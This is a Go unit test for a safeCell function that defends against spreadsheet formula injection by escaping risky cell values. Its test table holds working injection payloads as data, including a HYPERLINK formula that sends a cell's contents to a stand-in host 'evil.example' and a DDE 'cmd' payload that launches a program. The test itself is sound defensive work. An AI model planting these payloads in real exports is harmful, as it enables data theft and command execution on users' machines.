package web

import "testing"

func TestSafeCell(t *testing.T) {
	tests := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"@SUM(1+1)":            "'@SUM(1+1)",
		"+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
		"-2+3":                 "'-2+3",
		"\tx":                  "'\tx",
		"\rx":                  "'\rx",
		"-89.25":               "-89.25",
		"+358":                 "+358",
		"1e-3":                 "1e-3",
		"-":                    "'-",
		"Łódź":                 "Łódź",
		"a=b":                  "a=b",
		"":                     "",
		"https://x.y":          "https://x.y",
	}
	for in, want := range tests {
		if got := safeCell(in); got != want {
			t.Errorf("safeCell(%q) = %q, want %q", in, got, want)
		}
	}
}
